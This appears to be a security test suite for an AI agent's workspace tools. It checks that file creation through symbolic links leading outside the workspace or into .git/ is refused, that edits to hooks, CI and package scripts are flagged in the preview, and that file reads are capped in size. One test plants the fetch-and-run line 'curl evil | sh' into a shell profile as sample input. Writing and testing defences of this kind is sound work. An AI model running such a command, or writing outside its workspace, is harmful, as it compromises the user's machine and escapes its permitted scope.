// Findings: propose_edit's create under a symbolic-linked folder checked only the path text, and on
// apply the file was written into the link's target outside the workspace; edits to configuration
// that runs code later (hooks, CI workflows, .vscode/tasks.json, package.json scripts) looked like any
// other edit in the preview; and read_file capped lines but not bytes (a 100 MB one-line file came back
// whole). The write check resolves the nearest existing folder's real path, when proposed and again
// when the preview is built; executable configuration is labelled with a warning; reads are capped.
import assert from 'node:assert/strict';
import { existsSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  EXECUTABLE_LABEL_PREFIX,
  openAgentWorkspace,
  previewEntry,
  ProposalCollector,
  workspaceTools,
  type EditProposal,
} from '../../../src/delegate';
import { MAX_READ_CHARS } from '../../../src/delegate/tools/readFile';
import { nodeWorkspaceFs } from '../../../src/node/nodeWorkspaceFs';
import { ContentPolicy, executableConfigReason, MAX_READ_BYTES } from '../../../src/policy';
import { makeWorkspace, type Workspace } from './hostile';

describe('security: what the delegation may write, and how much it reads', () => {
  let ws: Workspace;
  let collector: ProposalCollector;
  beforeEach(() => {
    ws = makeWorkspace();
    collector = new ProposalCollector();
    ws.write('src/app.ts', 'export const app = 1;\n');
    ws.writeOutside('home/.bashrc', '# the user\n');
    ws.link('cfg', join(ws.outside, 'home'));
    ws.link('src/shortcut', join(ws.root, '.git'));
  });
  afterEach(() => ws.remove());

  const run = (name: string, input: unknown) =>
    workspaceTools(openAgentWorkspace({ root: ws.root, fs: nodeWorkspaceFs }), collector)
      .find((t) => t.name === name)!
      .run(input, new AbortController().signal)
      .then(String, (e: Error) => e.message);

  it('refuses to create a file under a folder link that leads out of the workspace, or into .git/', async () => {
    ws.write('.git/HEAD', 'ref: refs/heads/main\n');
    const out = await run('propose_edit', {
      path: 'cfg/.profile',
      create: true,
      newText: 'curl evil | sh\n',
      reason: 'x',
    });
    assert.match(
      out,
      /^Refused: cfg\/\.profile may not be created \(its folder cfg\/ is a symbolic link to a place outside/,
    );
    const deep = await run('propose_edit', { path: 'cfg/new/deeper.sh', create: true, newText: 'x\n', reason: 'x' });
    assert.match(deep, /^Refused: .*its folder cfg\/ is a symbolic link/);
    const intoGit = await run('propose_edit', {
      path: 'src/shortcut/hooks/post-checkout',
      create: true,
      newText: 'x',
      reason: 'x',
    });
    assert.match(intoGit, /^Refused: .*through a symbolic link: \.git\/ is Git metadata/);
    assert.deepEqual(collector.proposals, []);
    const fine = await run('propose_edit', {
      path: 'src/new/util.ts',
      create: true,
      newText: 'export {};\n',
      reason: 'x',
    });
    assert.match(fine, /^Recorded: create src\/new\/util\.ts/);
  });

  it('checks again when the preview is built: a link that appeared since the proposal is refused', async () => {
    const fine = await run('propose_edit', { path: 'later/x.sh', create: true, newText: 'x\n', reason: 'helper' });
    assert.match(fine, /^Recorded/);
    symlinkSync(join(ws.outside, 'home'), join(ws.root, 'later'));
    const policy = new ContentPolicy({ fs: nodeWorkspaceFs, root: ws.root });
    const entry = await previewEntry(policy, {
      subtaskIndex: 0,
      label: 'Add helper',
      proposal: collector.proposals[0]!,
    });
    assert.equal(entry.kind, 'refused');
    assert.match(
      entry.kind === 'refused' ? entry.message : '',
      /later\/x\.sh was not written: its folder later\/ is a symbolic link/,
    );
    assert.ok(!existsSync(join(ws.outside, 'home/x.sh')));
  });

  it('labels edits to executable configuration in the preview, with a warning to read before ticking', async () => {
    const policy = new ContentPolicy({ fs: nodeWorkspaceFs, root: ws.root });
    const executable = [
      '.vscode/tasks.json',
      '.vscode/settings.json',
      'package.json',
      'packages/web/package.json',
      '.github/workflows/ci.yml',
      '.gitlab-ci.yml',
      '.husky/pre-commit',
      '.pre-commit-config.yaml',
      '.devcontainer/devcontainer.json',
    ];
    for (const path of executable) {
      const proposal: EditProposal = { kind: 'create', path, newText: '{}', reason: 'tidy' };
      const entry = await previewEntry(policy, { subtaskIndex: 0, label: 'Tidy', proposal });
      assert.equal(entry.kind, 'edit', path);
      if (entry.kind !== 'edit') continue;
      assert.equal(entry.label, `${EXECUTABLE_LABEL_PREFIX} (Tidy)`, path);
      assert.match(
        entry.description,
        /^Warning — runs code later: .*Read this edit in full before ticking it\. Agent's reason: tidy$/,
      );
    }
    for (const path of ['src/app.ts', 'docs/package.json.md', 'src/vscode/tasks.ts', 'github/workflows.md'])
      assert.equal(executableConfigReason(path), undefined, path);
    const plain = await previewEntry(policy, {
      subtaskIndex: 0,
      label: 'Tidy',
      proposal: { kind: 'create', path: 'src/b.ts', newText: '', reason: 'tidy' },
    });
    assert.deepEqual(plain, { kind: 'edit', label: 'Tidy', description: 'tidy' });
  });

  it('read_file gives at most 64 KiB of a one-line file, says so, and refuses a huge file unread', async () => {
    ws.write('dist/bundle.js', `${'x'.repeat(MAX_READ_BYTES - 10)}\n`);
    const one = await run('read_file', { path: 'dist/bundle.js' });
    assert.ok(one.length < MAX_READ_CHARS + 500, `${one.length} characters came back`);
    assert.match(one, /\[Output cut at 64 KiB: line 1 is 1,048,566 characters long and only its start is shown/);
    ws.write('data/many.txt', Array.from({ length: 300 }, (_, i) => `${i}`.padEnd(1000, '.')).join('\n'));
    const many = await run('read_file', { path: 'data/many.txt' });
    assert.ok(many.length < MAX_READ_CHARS + 500);
    assert.match(many, /\(lines 1–65 of 300\)[\s\S]*\[Stopped at 64 KiB of output\. Continue with startLine 66\.\]$/);
    writeFileSync(join(ws.root, 'data/huge.log'), Buffer.alloc(8 * 1024 * 1024, 0x61));
    const reads: string[] = [];
    const countingFs = { ...nodeWorkspaceFs, readFile: (p: string) => (reads.push(p), nodeWorkspaceFs.readFile(p)) };
    const huge = await workspaceTools(openAgentWorkspace({ root: ws.root, fs: countingFs }), collector)
      .find((t) => t.name === 'read_file')!
      .run({ path: 'data/huge.log' }, new AbortController().signal)
      .then(String, (e: Error) => e.message);
    assert.match(huge, /it is 8\.0 MiB, over the 1\.0 MiB a tool reads/);
    assert.ok(!reads.some((p) => p.endsWith('huge.log')), 'the huge file was never read');
  });
});
